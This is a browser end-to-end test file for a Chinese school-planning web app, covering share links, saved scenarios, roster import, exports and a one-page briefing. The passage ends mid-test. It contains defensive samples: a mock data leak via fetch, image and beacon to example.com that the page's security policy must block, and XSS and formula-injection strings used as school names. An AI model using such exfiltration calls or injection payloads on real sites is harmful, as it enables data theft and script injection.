// End-to-end tests of sharing, saving, importing, exporting and the
// leadership briefing (issue 6), in headless Chromium against web/dist.
//
// Each test opens its own browser context, so localStorage starts empty
// unless the test reloads within its context. Every test ends with
// assertClean: no panic, no console error, no request to another origin.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import {
  briefingFitsA4,
  launch, openApp, assertClean, appState, waitDrawn, waitGeneration, targetRows, chartRowStartingWith,
  openTab, openGroup, leverId, setLever, waitMonteCarlo, artifactsDir, pinTwoMigrations, MIGRATION,
  download, openDrawer, parseCsv as parseCsvRows,
} from './harness.mjs';

let env;
before(async () => { env = await launch(); });
after(async () => { await env?.close(); });

const data = (name) => new URL(`../data/${name}`, import.meta.url).pathname;
const DEFAULT = 'pudong-2024';
const withDownloads = { context: { acceptDownloads: true } };

/// The texts of the page's messages of one kind (info, warning, error).
async function messages(page, kind) {
  return page.$$eval(`#messages li.message[data-kind="${kind}"]`, (ls) => ls.map((l) => l.textContent));
}

/// The entries of a zip archive (an XLSX), by name, inflated.
function unzip(bytes) {
  const buf = Buffer.from(bytes);
  let end = buf.length - 22;
  while (end >= 0 && buf.readUInt32LE(end) !== 0x06054b50) end--;
  assert.ok(end >= 0, 'not a zip archive: no end of central directory');
  const count = buf.readUInt16LE(end + 10);
  let at = buf.readUInt32LE(end + 16);
  const files = {};
  for (let k = 0; k < count; k++) {
    assert.equal(buf.readUInt32LE(at), 0x02014b50, 'broken zip central directory');
    const method = buf.readUInt16LE(at + 10);
    const size = buf.readUInt32LE(at + 20);
    const nameLen = buf.readUInt16LE(at + 28);
    const skip = nameLen + buf.readUInt16LE(at + 30) + buf.readUInt16LE(at + 32);
    const name = buf.toString('utf8', at + 46, at + 46 + nameLen);
    const local = buf.readUInt32LE(at + 42);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(start, start + size);
    files[name] = method === 8 ? inflateRawSync(raw) : raw;
    at += 46 + skip;
  }
  return files;
}

/// Reads a CSV written by the app (UTF-8 with BOM, RFC 4180 quoting) into rows.
function parseCsv(bytes) {
  assert.ok(Buffer.from(bytes).toString('utf8').startsWith('\uFEFF'), 'CSV exports start with a BOM so Excel reads them as UTF-8');
  return parseCsvRows(bytes);
}

/// Pudong with the intake raised and rotation doubled: two levers in two panels.
async function editPudong(page) {
  await setLever(page, 'enrollment.intake_adjustment', 1.1, ['chart-target']);
  await openGroup(page, 'Teachers');
  await setLever(page, 'teachers.rotation_share', 20, ['chart-target']);
}

// ---------------------------------------------------------------------------
// Share links

test('a share link opened in a fresh browser context reproduces the same numbers and probabilities', async () => {
  const sender = await openApp(env);
  const { page } = sender;
  await editPudong(page);
  await waitMonteCarlo(page);
  const sent = await targetRows(page);
  const sentLine = await chartRowStartingWith(page, 'chart-target', '当前方案');
  assert.ok(sent.every((r) => r.probability !== null), 'probabilities are shown once Monte Carlo is done');

  await openDrawer(page, 'share');
  const link = await page.inputValue('#share-link');
  assert.ok(link.startsWith(env.url), `the link opens this app: ${link}`);
  assert.match(link, /#s=v2\.[0-9a-f]{8}\.[A-Za-z0-9_-]+$/);
  assert.ok(link.length < 2000, `a typical edit's link is under 2,000 characters (${link.length})`);
  // The payload is standard raw deflate: Node's zlib reads what the page wrote.
  const payload = JSON.parse(inflateRawSync(Buffer.from(link.split('.').at(-1), 'base64url')));
  assert.deepEqual(payload.l.map((l) => l[0]), ['enrollment.intake_adjustment', 'teachers.rotation_share']);
  assert.match(await page.textContent('#share-meta'), /已调整参数 2/, 'the share panel says two levers changed');

  const receiver = await openApp(env, { url: link });
  const r = receiver.page;
  await r.waitForSelector(`.app[data-scenario="${DEFAULT}"]`);
  await waitMonteCarlo(r);
  await waitDrawn(r, ['chart-target']);
  assert.deepEqual(await targetRows(r), sent, 'every target: projected value and probability');
  assert.deepEqual(await chartRowStartingWith(r, 'chart-target', '当前方案'), sentLine);
  assert.equal(await r.inputValue(`#${leverId('enrollment.intake_adjustment')}`), '1.1');
  const info = await messages(r, 'info');
  assert.ok(info.some((t) => t.includes('已打开分享链接') && t.includes('2 项调整')), `info message: ${info}`);
  // The fragment is cleared, so a reload shows the autosave, not the link again.
  assert.equal(await r.evaluate(() => location.hash), '');
  assert.equal((await appState(r)).mc, 'done');
  await assertClean(assert, sender);
  await assertClean(assert, receiver);
  await sender.context.close();
  await receiver.context.close();
});

test('malformed, truncated, tampered and future-version links each say why, open the default scenario and keep the page working', async () => {
  // A valid link to damage: Pudong with the intake raised.
  const maker = await openApp(env);
  await setLever(maker.page, 'enrollment.intake_adjustment', 1.2);
  await openDrawer(maker.page, 'share');
  const link = await maker.page.inputValue('#share-link');
  await maker.context.close();
  const fragment = link.slice(link.indexOf('#'));
  const [, sum, payload] = fragment.slice('#s=v2'.length).split('.');
  // Flip one payload character to another of the alphabet: the checksum no longer matches.
  const k = Math.floor(payload.length / 2);
  const flipped = payload.slice(0, k) + (payload[k] === 'A' ? 'B' : 'A') + payload.slice(k + 1);

  const fresh = await openApp(env);
  const defaults = await targetRows(fresh.page);
  await fresh.context.close();

  const cases = [
    ['malformed', '#s=hello', '链接不完整或已被改动'],
    ['not a link', '#hello', '这不是有效的优均分享链接'],
    ['truncated', fragment.slice(0, Math.floor(fragment.length * 0.6)), '链接不完整或已被改动'],
    ['tampered', `#s=v2.${sum}.${flipped}`, '链接不完整或已被改动'],
    // The same payload read as v1: the v2 checksum covers the version digit.
    ['another version', `#s=v1.${sum}.${payload}`, '链接不完整或已被改动'],
    ['newer version', `#s=v9.${sum}.${payload}`, '较新版本'],
  ];
  for (const [what, bad, why] of cases) {
    const app = await openApp(env, { url: env.url + bad });
    const { page } = app;
    await page.waitForSelector('#messages li.message[data-kind="error"]');
    const errors = await messages(page, 'error');
    assert.equal(errors.length, 1, `${what}: one error message (${errors})`);
    assert.ok(errors[0].includes(why), `${what}: the message says why: ${errors[0]}`);
    assert.ok(errors[0].includes('已改为打开默认情景'), `${what}: the message says the default opened: ${errors[0]}`);
    assert.equal((await appState(page)).scenario, DEFAULT, `${what}: the default scenario`);
    assert.deepEqual(await targetRows(page), defaults, `${what}: the default scenario's numbers`);
    // The page still works: an edit applies, and the message can be dismissed.
    await setLever(page, 'enrollment.intake_adjustment', 1.05, ['chart-target']);
    await page.click('#messages li.message[data-kind="error"] .dismiss');
    await page.waitForSelector('#messages li.message[data-kind="error"]', { state: 'detached' });
    await assertClean(assert, app);
    await app.context.close();
  }
});

// ---------------------------------------------------------------------------
// Autosave and saved scenarios

test('a v1 link, written before link version 2, still opens, to the same numbers as the v2 link the app writes for it', async () => {
  // The literal pinned in src/share.rs (a_literal_v1_link_still_decodes):
  // Minhang Hongqiao, rotation 25%, a 2026 capital budget of 10 million, seed 7.
  const V1 = 's=v1.5773d24e.eyJiYXNlIjoibWluaGFuZy1ob25ncWlhby1kaXN0cmljdCIsIm1vZGVsX3ZlcnNpb24iOiIyMDI2LjEyIiwiZGF0YV92ZXJzaW9uIjoiMDAwMDAwMDAwMDAwMDAwMCIsInNlZWQiOjcsImxldmVycyI6W1sidGVhY2hlcnMucm90YXRpb25fc2hhcmUiLDAuMjVdXSwieWVhcmx5IjpbWyJmdW5kaW5nLmNhcGl0YWxfYnVkZ2V0X3l1YW4iLFtbMjAyNiwxMDAwMDAwMC4wXV1dXX0';
  const old = await openApp(env, { url: `${env.url}#${V1}` });
  const { page } = old;
  await page.waitForSelector('.app[data-scenario="minhang-hongqiao-district"]');
  await waitMonteCarlo(page);
  await waitDrawn(page, ['chart-target']);
  const info = await messages(page, 'info');
  assert.ok(info.some((t) => t.includes('已打开分享链接') && t.includes('2 项调整')), `info message: ${info}`);
  // Its data version is a stand-in, so it opens with that warning.
  assert.ok((await messages(page, 'warning')).some((t) => t.includes('数据')), 'the data-version warning');
  assert.equal(await page.inputValue(`#${leverId('teachers.rotation_share')}`), '25');
  const fromV1 = await targetRows(page);
  const lineV1 = await chartRowStartingWith(page, 'chart-target', '当前方案');

  await openDrawer(page, 'share');
  const link = await page.inputValue('#share-link');
  assert.match(link, /#s=v2\./, 'the app writes v2');
  const renewed = await openApp(env, { url: link });
  const r = renewed.page;
  await r.waitForSelector('.app[data-scenario="minhang-hongqiao-district"]');
  await waitMonteCarlo(r);
  await waitDrawn(r, ['chart-target']);
  assert.deepEqual(await targetRows(r), fromV1, 'every target: projected value and probability');
  assert.deepEqual(await chartRowStartingWith(r, 'chart-target', '当前方案'), lineV1);
  await assertClean(assert, old);
  await assertClean(assert, renewed);
  await old.context.close();
  await renewed.context.close();
});

test('autosave survives a reload; saved scenarios rename, duplicate, delete with undo, and survive a reload', async () => {
  const app = await openApp(env);
  const { page, context } = app;
  await setLever(page, 'enrollment.intake_adjustment', 1.15, ['chart-target']);
  const edited = await chartRowStartingWith(page, 'chart-target', '当前方案');

  await page.reload();
  await page.waitForSelector('#chart-target[data-drawn]');
  assert.equal(await page.inputValue(`#${leverId('enrollment.intake_adjustment')}`), '1.15', 'the edit came back');
  assert.deepEqual(await chartRowStartingWith(page, 'chart-target', '当前方案'), edited);

  await openDrawer(page, 'saved');
  await page.waitForSelector('#saved-empty');
  await page.fill('#save-name', '招生上调 15%');
  await page.click('#save-as');
  await page.waitForSelector('#saved-list li[data-saved-id]');
  const names = () => page.$$eval('#saved-list li[data-saved-id] .saved-name', (ns) => ns.map((n) => n.textContent));
  assert.deepEqual(await names(), ['招生上调 15%']);

  const first = page.locator('#saved-list li[data-saved-id]').first();
  await first.locator('.saved-rename').click();
  await first.locator('.rename-input').fill('方案甲');
  await first.locator('.rename-ok').click();
  await page.waitForFunction(() => document.querySelector('#saved-list .saved-name')?.textContent === '方案甲');
  assert.equal(await page.textContent('#saved-status'), '已重命名为「方案甲」。');
  await first.locator('.saved-duplicate').click();
  await page.waitForFunction(() => document.querySelectorAll('#saved-list li[data-saved-id]').length === 2);
  const [a, b] = await names();
  assert.equal(a, '方案甲');
  assert.ok(b.startsWith('方案甲') && b !== a, `the duplicate is named after the original: ${b}`);
  assert.equal(await page.textContent('#saved-status'), `已复制为「${b}」。`);

  // Delete the copy, undo, delete it again for good.
  const copy = page.locator('#saved-list li[data-saved-id]').nth(1);
  await copy.locator('.saved-delete').click();
  await page.waitForSelector('#saved-undo');
  assert.equal((await names()).length, 1);
  await page.click('#undo-delete');
  await page.waitForFunction(() => document.querySelectorAll('#saved-list li[data-saved-id]').length === 2);
  assert.deepEqual(await names(), [a, b], 'undo restores the entry under its name');
  await page.screenshot({ path: join(artifactsDir, 'saved-list.png') });
  await page.locator('#saved-list li[data-saved-id]').nth(1).locator('.saved-delete').click();
  await page.waitForFunction(() => document.querySelectorAll('#saved-list li[data-saved-id]').length === 1);

  // Back to the baseline, then reopen the saved scenario after a reload.
  await page.click('#drawer .close');
  await page.selectOption('#scenario-picker', 'putuo-strong-junior');
  await page.waitForSelector('.app[data-scenario="putuo-strong-junior"]');
  await page.reload();
  await page.waitForSelector('.app[data-scenario="putuo-strong-junior"]');
  await openDrawer(page, 'saved');
  assert.deepEqual(await names(), ['方案甲'], 'the list survives a reload');
  const { generation } = await appState(page);
  await page.click('#saved-list li[data-saved-id] .saved-open');
  await waitGeneration(page, generation, ['chart-target']);
  assert.equal((await appState(page)).scenario, DEFAULT);
  assert.equal(await page.inputValue(`#${leverId('enrollment.intake_adjustment')}`), '1.15');
  assert.deepEqual(await chartRowStartingWith(page, 'chart-target', '当前方案'), edited);
  await assertClean(assert, app);
  await context.close();
});

test('a corrupt autosave is kept aside and reported; a full storage quota shows a message', async () => {
  const app = await openApp(env);
  const { page, context } = app;
  await page.evaluate(() => localStorage.setItem('youjun.autosave', '{"schema": 1, "broken'));
  await page.reload();
  await page.waitForSelector('#chart-target[data-drawn]');
  assert.equal((await appState(page)).scenario, DEFAULT);
  const errors = await messages(page, 'error');
  assert.equal(errors.length, 1, `one error about the autosave: ${errors}`);
  const kept = await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('youjun.quarantine.')));
  assert.equal(kept.length, 1, `the unreadable autosave is kept: ${kept}`);
  assert.equal(await page.evaluate((k) => localStorage.getItem(k), kept[0]), '{"schema": 1, "broken', 'kept unchanged');
  await openDrawer(page, 'saved');
  assert.match(await page.textContent('#saved-problems'), /youjun\.quarantine\./);
  await page.click('#drawer .close');

  // Fill the quota with other data, then edit: the autosave fails and says so.
  await page.evaluate(() => {
    const chunk = 'x'.repeat(512 * 1024);
    for (let i = 0; ; i++) {
      try { localStorage.setItem(`filler.${i}`, chunk); } catch { break; }
    }
    let small = 'x'.repeat(1024);
    for (let i = 0; ; i++) {
      try { localStorage.setItem(`filler.small.${i}`, small); } catch { if (small.length > 1) small = small.slice(0, small.length / 2); else break; }
    }
  });
  await setLever(page, 'enrollment.intake_adjustment', 1.1, ['chart-target']);
  await page.waitForFunction(() => [...document.querySelectorAll('#messages li.message[data-kind="error"]')].some((l) => l.textContent.includes('自动保存失败')));
  const full = (await messages(page, 'error')).find((t) => t.includes('自动保存失败'));
  assert.match(full, /存储空间已满|空间/, `the message names the full storage: ${full}`);
  await assertClean(assert, app);
  await context.close();
});

// ---------------------------------------------------------------------------
// Roster import

test('a CSV with bad rows lists each problem by row and column and changes nothing', async () => {
  const app = await openApp(env);
  const { page, context } = app;
  await waitMonteCarlo(page);
  const before = await appState(page);
  const rows = await targetRows(page);
  const header = 'school_id,name,level,students,qualified_teachers,backbone_teachers,pe_art_teachers,teaching_space_m2,sports_space_m2,equipment_yuan,multimedia_rooms';
  const csv = [
    header,
    'P001,示例小学 001,primary,100,5,1,1,500,800,200000,3',
    'P002,示例小学 002,senior,100,5,1,1,500,800,200000,3', // row 3: level
    'P003,示例小学 003,primary,-4,5,1,1,500,800,200000,3', // row 4: students
    'P004,示例小学 004,primary,100,五,1,1,500,800,200000,3', // row 5: teachers
    'J001,示例初中 001,junior,300,20,3,2,1500,2500,700000,8',
  ].join('\n');
  await openDrawer(page, 'import');
  await page.setInputFiles('#import-roster', { name: '有错的花名册.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await page.waitForSelector('#import-problems');
  const problems = await page.$$eval('#import-problems tr[data-row]', (trs) => trs.map((tr) => ({
    row: tr.dataset.row, cells: [...tr.querySelectorAll('td')].map((td) => td.textContent),
  })));
  await page.screenshot({ path: join(artifactsDir, 'import-problems.png') });
  assert.deepEqual(problems.map((p) => p.row), ['3', '4', '5'], JSON.stringify(problems));
  assert.match(problems[0].cells.join(' '), /学段|level/, 'row 3 names the level column');
  assert.match(problems[1].cells.join(' '), /在校生|students/, 'row 4 names the students column');
  assert.match(problems[2].cells.join(' '), /专任教师|qualified_teachers/, 'row 5 names the teachers column');
  for (const p of problems) assert.ok(/[\u4e00-\u9fff]/.test(p.cells.at(-1)), `the reason is in Chinese: ${p.cells}`);
  assert.equal(await page.locator('#import-apply').count(), 0, 'nothing can be applied while the file has errors');
  assert.equal(await page.locator('#import-drop-bad').count(), 1, 'dropping the bad rows is offered, not done');

  // Nothing changed.
  assert.deepEqual(await appState(page), before);
  assert.deepEqual(await targetRows(page), rows);

  // A file that is not a roster at all: one clear message, still nothing changed.
  await page.setInputFiles('#import-roster', { name: 'notes.csv', mimeType: 'text/csv', buffer: Buffer.from('hello,world\n1,2\n') });
  await page.waitForFunction(() => /学校代码|school_id/.test(document.querySelector('#import-problems, #import-status')?.textContent ?? ''));
  assert.deepEqual(await appState(page), before);

  // In English, the same file's problems are reported in English.
  await page.click('#lang-toggle');
  await page.waitForSelector('html[lang="en"]');
  await openDrawer(page, 'import');
  await page.setInputFiles('#import-roster', { name: 'bad-roster.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await page.waitForFunction(() => document.querySelector('#import-problems')?.textContent.includes('bad-roster.csv'));
  const english = await page.$$eval('#import-problems tr[data-row]', (trs) => trs.map((tr) => tr.querySelector('td:last-child').textContent));
  assert.equal(english.length, 3);
  // English apart from the quoted cell ("五") and the Chinese level names
  // given with the English ones (primary (小学)), which the file may use.
  for (const reason of english) assert.ok(!/[\u4e00-\u9fff]/.test(reason.replace(/"[^"]*"|\([\u4e00-\u9fff]+\)/g, '')), `an English reason: ${reason}`);
  assert.deepEqual(await appState(page), { ...before, version: (await appState(page)).version });
  await assertClean(assert, app);
  await context.close();
});

test('the Content-Security-Policy blocks a request to another origin before it leaves the page', async () => {
  const app = await openApp(env);
  const { page, context } = app;
  // What a compromised script would try: fetch, an image, a beacon.
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const fetched = await fetch('https://example.com/leak?roster=1').then(() => 'sent', () => 'blocked');
    const img = new Image();
    img.src = 'https://example.com/pixel.png';
    const beacon = navigator.sendBeacon('https://example.com/beacon', 'x');
    await new Promise((ok) => setTimeout(ok, 300));
    return { fetched, beacon, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src'), `connect-src violation: ${outcome.violations}`);
  assert.ok(outcome.violations.includes('img-src'), `img-src violation: ${outcome.violations}`);
  assert.deepEqual(app.foreignRequests, [], 'nothing reached the network');
  assert.ok(app.blockedRequests.includes('https://example.com/pixel.png'), `the image was blocked by the policy: ${app.blockedRequests}`);
  // The only errors are the browser's own reports of the blocked attempts.
  assert.ok(app.problems.every((p) => /Content Security Policy|Failed to fetch/i.test(p)), app.problems.join('\n'));
  await context.close();
});

test('an XLSX roster whose names are HTML and script payloads imports and is shown as plain text; nothing executes', async () => {
  const app = await openApp(env, withDownloads);
  const { page, context } = app;
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  const { generation } = await appState(page);
  await openDrawer(page, 'import');
  await page.setInputFiles('#import-roster', data('roster_html_names.xlsx'));
  await page.waitForSelector('#import-ready');
  await page.click('#import-apply');
  await waitGeneration(page, generation, ['chart-target']);
  const info = await messages(page, 'info');
  assert.ok(info.some((t) => t.includes('roster_html_names.xlsx') && t.includes('5 行')), `import message: ${info}`);

  await openTab(page, 'schools', ['chart-heat-map']);
  await page.screenshot({ path: join(artifactsDir, 'import-html-names.png') });
  const names = await page.$$eval('#school-table tbody th', (ths) => ths.map((th) => th.textContent));
  for (const n of ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '=1+1', '示例初中 "引号", 逗号', '&lt;b&gt;实体&lt;/b&gt; &amp; </td>']) {
    assert.ok(names.includes(n), `“${n}” shown as text; names: ${JSON.stringify(names)}`);
  }
  assert.equal(await page.locator('#school-table img, #school-table script, #school-table b, #school-table u').count(), 0, 'no markup from the roster');

  // The briefing names failing schools as text too.
  await page.click('#open-briefing');
  await page.waitForSelector('#briefing');
  assert.equal(await page.locator('#briefing img:not(.brief-chart), #briefing script, #briefing b, #briefing u').count(), 0);
  await page.click('#briefing-back');

  // A link made now carries the roster's hash: the recipient is told to import it,
  // and told whether the file they import is the same.
  await openDrawer(page, 'share');
  assert.match(await page.textContent('#share-roster-note'), /花名册/);
  const link = await page.inputValue('#share-link');
  const receiver = await openApp(env, { url: link });
  const r = receiver.page;
  await r.waitForFunction(() => [...document.querySelectorAll('#messages li.message[data-kind="warning"]')].some((l) => l.textContent.includes('请导入同一份花名册')));
  await openDrawer(r, 'import');
  await r.setInputFiles('#import-roster', data('roster_html_names.csv'));
  await r.waitForSelector('#import-ready');
  let g = (await appState(r)).generation;
  await r.click('#import-apply');
  await waitGeneration(r, g, ['chart-target']);
  // The CSV and the XLSX hold the same rows, so they hash the same.
  assert.ok((await messages(r, 'info')).some((t) => t.includes('与链接所用的相同')), 'same roster: told so');
  assert.equal(dialogs.length, 0, `a dialog opened: ${dialogs}`);
  assert.deepEqual(await page.evaluate(() => window.__pwned ?? null), null);
  await assertClean(assert, app);
  await assertClean(assert, receiver);
  await context.close();
  await receiver.context.close();
});

test('a roster from a link recipient that differs from the sender’s is reported as different', async () => {
  const sender = await openApp(env);
  await openDrawer(sender.page, 'import');
  await sender.page.setInputFiles('#import-roster', data('roster_html_names.csv'));
  await sender.page.waitForSelector('#import-ready');
  let g = (await appState(sender.page)).generation;
  await sender.page.click('#import-apply');
  await waitGeneration(sender.page, g);
  await openDrawer(sender.page, 'share');
  const link = await sender.page.inputValue('#share-link');

  const receiver = await openApp(env, { url: link });
  const r = receiver.page;
  // The same schools with one more pupil in one school: a different file.
  const csv = readFileSync(data('roster_html_names.csv'), 'utf8').replace(',100,8,', ',101,8,');
  await openDrawer(r, 'import');
  await r.setInputFiles('#import-roster', { name: 'changed.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await r.waitForSelector('#import-ready');
  g = (await appState(r)).generation;
  await r.click('#import-apply');
  await waitGeneration(r, g);
  const warnings = await messages(r, 'warning');
  assert.ok(warnings.some((t) => t.includes('与链接所用的不同')), `told the roster differs: ${warnings}`);
  await assertClean(assert, sender);
  await assertClean(assert, receiver);
  await sender.context.close();
  await receiver.context.close();
});

// ---------------------------------------------------------------------------
// Exports

test('each export downloads and parses back: scenario JSON (reopens to the same numbers), CSV and XLSX tables, roster, chart SVG and PNG', async () => {
  const app = await openApp(env, withDownloads);
  const { page, context } = app;
  await editPudong(page);
  await waitMonteCarlo(page);
  const rows = await targetRows(page);
  await openDrawer(page, 'export');

  // Scenario JSON: parses, names the base, and reopens to the same numbers.
  const json = await download(page, '#export-scenario-json');
  assert.equal(json.name, `youjun-${DEFAULT}-scenario.json`);
  const scenario = JSON.parse(json.bytes.toString('utf8'));
  assert.equal(scenario.scenario.id, DEFAULT);
  const other = await openApp(env);
  await openDrawer(other.page, 'import');
  const g = (await appState(other.page)).generation;
  await other.page.setInputFiles('#import-scenario', { name: json.name, mimeType: 'application/json', buffer: json.bytes });
  await waitGeneration(other.page, g, ['chart-target']);
  await waitMonteCarlo(other.page);
  assert.deepEqual(await targetRows(other.page), rows, 'the exported scenario reopens to the same numbers');
  await assertClean(assert, other);
  await other.context.close();

  // Tables as CSV: a header row and a row per year (district), school-year or target.
  const district = parseCsv((await download(page, '#export-district-csv')).bytes);
  assert.equal(district[0][0], 'year');
  assert.equal(district.length - 1, 7, 'one row per year 2024–2030');
  const schools = parseCsv((await download(page, '#export-schools-csv')).bytes);
  assert.ok(schools.length > 100 && schools.slice(1).every((r) => r.length === schools[0].length), 'schools CSV rectangular');
  const targets = parseCsv((await download(page, '#export-targets-csv')).bytes);
  assert.equal(targets.length - 1, rows.length, 'one row per target');
  const probability = targets[0].indexOf('probability');
  assert.ok(probability > 0, `targets CSV has a probability column: ${targets[0]}`);
  targets.slice(1).forEach((r, k) => assert.equal(Number(r[probability]), rows[k].probability, `probability of ${rows[k].id}`));

  // Results as XLSX: a zip with the workbook's sheets.
  const xlsx = await download(page, '#export-results-xlsx');
  assert.equal(xlsx.bytes.subarray(0, 2).toString('latin1'), 'PK');
  const book = unzip(xlsx.bytes);
  const workbook = book['xl/workbook.xml'].toString('utf8');
  for (const sheet of ['全区逐年', '逐校逐年', '目标', '蒙特卡洛区间', '说明']) assert.ok(workbook.includes(sheet), `sheet ${sheet} in ${workbook.match(/<sheets>.*<\/sheets>/)?.[0]}`);

  // The roster as CSV and XLSX: both import back cleanly.
  const rosterCsv = await download(page, '#export-roster-csv');
  const rosterXlsx = await download(page, '#export-roster-xlsx');
  await openDrawer(page, 'import');
  for (const file of [rosterCsv, rosterXlsx]) {
    await page.setInputFiles('#import-roster', { name: file.name, mimeType: 'application/octet-stream', buffer: file.bytes });
    await page.waitForSelector('#import-ready');
    assert.match(await page.textContent('#import-ready'), new RegExp(file.name.replace(/[.]/g, '\\.')));
  }

  // The template: Chinese headers.
  const template = parseCsv((await download(page, '#template-csv')).bytes);
  assert.equal(template[0][0], '学校代码');
  await page.click('#drawer .close');

  // A chart as SVG and as PNG.
  const svg = await download(page, 'figure.chart:has(#chart-target) .export-svg');
  assert.match(svg.name, /\.svg$/);
  const parsed = await page.evaluate((text) => {
    const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
    return { root: doc.documentElement.nodeName, error: doc.querySelector('parsererror') !== null, text: doc.documentElement.textContent };
  }, svg.bytes.toString('utf8'));
  assert.deepEqual([parsed.root, parsed.error], ['svg', false]);
  assert.ok(parsed.text.includes('区级新优质项目校'), 'the SVG carries the chart title as text');
  const png = await download(page, 'figure.chart:has(#chart-target) .export-png');
  assert.deepEqual([...png.bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG signature');
  const width = png.bytes.readUInt32BE(16);
  assert.equal(width, await page.$eval('#chart-target', (c) => c.width), 'the PNG is the canvas as drawn');
  await assertClean(assert, app);
  await context.close();
});

// ---------------------------------------------------------------------------
// The briefing

test('the briefing is one A4 page in Chinese: targets with probabilities, three charts, risks, changed levers, assumptions with sources', async () => {
  const app = await openApp(env);
  const { page, context } = app;
  await setLever(page, 'enrollment.intake_adjustment', 1.1, ['chart-target']);
  await waitMonteCarlo(page);
  const rows = await targetRows(page);
  await page.click('#open-briefing');
  await page.waitForSelector('.briefing-view[data-ready="true"]');
  const brief = await page.$$eval('.brief-targets tbody tr[data-target]', (trs) => trs.map((tr) => ({
    id: tr.dataset.target, probability: Number(tr.querySelector('td.prob').dataset.value),
  })));
  assert.ok(brief.length > 0);
  for (const b of brief) {
    const row = rows.find((r) => r.id === b.id);
    assert.equal(b.probability, row.probability, `probability of ${b.id} as on the targets tab`);
  }
  assert.equal(await page.locator('#briefing img.brief-chart').count(), 3, 'three charts');
  await page.waitForFunction(() => [...document.querySelectorAll('#briefing img.brief-chart')].every((i) => i.complete && i.naturalWidth > 0));
  const risks = await page.$$eval('.risk-table tr[data-risk]', (trs) => trs.map((tr) => tr.dataset.risk));
  for (const k of ['schools_failing', 'shortage_teachers', 'surplus_teachers', 'budget_gap_yuan']) assert.ok(risks.includes(k), `risk ${k}`);
  const changed = await page.$$eval('.change-list li[data-lever]', (ls) => ls.map((l) => l.dataset.lever));
  assert.deepEqual(changed, ['enrollment.intake_adjustment']);
  const sources = await page.$$eval('#briefing-assumptions li[data-source]', (ls) => ls.map((l) => l.dataset.source));
  assert.ok(sources.some((s) => s.startsWith('000_9ddd49f59424de77.txt')), `cites the Pudong seed: ${sources}`);
  assert.ok(sources.includes('估计'), 'estimates are marked as such');

  // Print: only the sheet, exactly one A4 page.
  await page.emulateMedia({ media: 'print' });
  await page.setViewportSize({ width: 794, height: 1123 });
  assert.equal(await page.locator('.briefing-tools').isVisible(), false, 'the buttons do not print');
  await briefingFitsA4(page);
  await page.screenshot({ path: join(artifactsDir, 'briefing-print.png') });
  const pdf = await page.pdf({ format: 'A4', printBackground: true, preferCSSPageSize: true });
  const pages = (pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g) ?? []).length;
  assert.equal(pages, 1, 'the briefing prints on one page');
  await assertClean(assert, app);
  await context.close();
});

test('with a dozen levers changed the briefing still fits one page, listing every change', async () => {
  const app = await openApp(env);
  const { page, context } = app;
  for (const g of ['Teachers', 'Funding', 'NewQuality', 'Assumptions']) await openGroup(page, g);
  // Twelve single-number levers (not the yearly tables) moved to the middle
  // of their ranges, skipping those already there.
  const boxes = await page.$$eval('details.group input[type=number][id^="lever-"]:not([data-year])', (inputs) => inputs
    .map((i) => ({ id: i.id, min: Number(i.min), max: Number(i.max), step: Number(i.step) || 1, value: Number(i.value) }))
    .filter((b) => Number.isFinite(b.min) && Number.isFinite(b.max) && b.max > b.min));
  let changed = 0;
  for (const b of boxes) {
    if (changed === 12) break;
    const middle = Math.round((b.min + b.max) / 2 / b.step) * b.step;
    const value = Number(middle.toPrecision(6));
    if (value === b.value) continue;
    const { generation } = await appState(page);
    await page.fill(`#${b.id}`, String(value));
    await page.press(`#${b.id}`, 'Enter');
    // A value the scenario refuses (a cross-field rule) leaves the generation alone.
    const moved = await page.waitForFunction((g) => Number(document.querySelector('.app').dataset.generation) > g, generation, { timeout: 3000 }).then(() => true, () => false);
    if (moved) changed++;
  }
  assert.equal(changed, 12, 'twelve levers changed');
  await waitMonteCarlo(page);
  await page.click('#open-briefing');
  await page.waitForSelector('.briefing-view[data-ready="true"]');
  assert.equal(await page.locator('.change-list li[data-lever]').count(), 12, 'every changed lever is listed');
  await page.emulateMedia({ media: 'print' });
  await page.setViewportSize({ width: 794, height: 1123 });
  await briefingFitsA4(page);
  await page.screenshot({ path: join(artifactsDir, 'briefing-print-many-changes.png') });
  const pdf = await page.pdf({ format: 'A4', printBackground: true, preferCSSPageSize: true });
  assert.equal((pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g) ?? []).length, 1, 'one page');
  await assertClean(assert, app);
  await context.close();
});

test('pinned scenarios and the language survive a reload, with the same numbers and probabilities', async () => {
  const app = await openApp(env);
  const { page } = app;
  await pinTwoMigrations(page);
  await setLever(page, MIGRATION, 1);
  await openTab(page, 'compare');
  // Every column's 2026/2028 target cells carry a probability once each
  // Monte Carlo is done (the pins' run after the current scenario's).
  const allProbabilities = () => page.waitForFunction(() => {
    const cells = [...document.querySelectorAll('#difference-table tr[data-target] td')].filter((td) => td.textContent);
    return cells.length > 0 && cells.every((td) => td.textContent.includes('P='));
  }, null, { timeout: 180_000 });
  await allProbabilities();
  const table = await page.textContent('#difference-table');
  const pins = await page.$$eval('#pinned-list li.pinned', (ls) => ls.map((l) => l.textContent));
  await page.click('#lang-toggle');
  await page.waitForSelector('html[lang="en"]');
  await page.click('#lang-toggle');
  await page.waitForSelector('html[lang="zh-CN"]');

  await page.reload();
  await page.waitForSelector('#chart-target[data-drawn]');
  await openTab(page, 'compare');
  assert.deepEqual(await page.$$eval('#pinned-list li.pinned', (ls) => ls.map((l) => l.textContent)), pins);
